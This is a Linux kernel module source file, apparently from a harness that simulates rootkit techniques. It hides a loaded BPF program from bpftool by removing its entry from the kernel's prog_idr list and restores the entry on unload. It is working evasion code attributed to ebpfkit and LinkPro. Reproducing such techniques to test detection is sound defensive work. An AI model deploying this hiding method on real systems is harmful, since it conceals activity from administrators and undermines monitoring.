// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: a BPF program is taken out of the kernel's list, so that bpftool does not show it. Who: ebpfkit, LinkPro.
 * Changes: the list of programs (prog_idr) lacks the lowest id. Undone when it is unloaded.
 */
#include "attack.h"

#include <linux/idr.h>

KERNEL_SYMBOL(prog_idr);

static void *program;
static int id;

static int __init start(void)
{
	struct idr *list = (void *)prog_idr_at;

	if (!list)
		return -ENOENT;
	program = idr_get_next(list, &id);
	if (!program)
		return -ESRCH;
	idr_remove(list, id);
	return 0;
}

static void __exit stop(void)
{
	int again = idr_alloc((struct idr *)prog_idr_at, program, id, id + 1, GFP_KERNEL);

	if (again != id)
		pr_err("ringside: the program did not come back: %d\n", again);
}

ATTACK(start, stop);
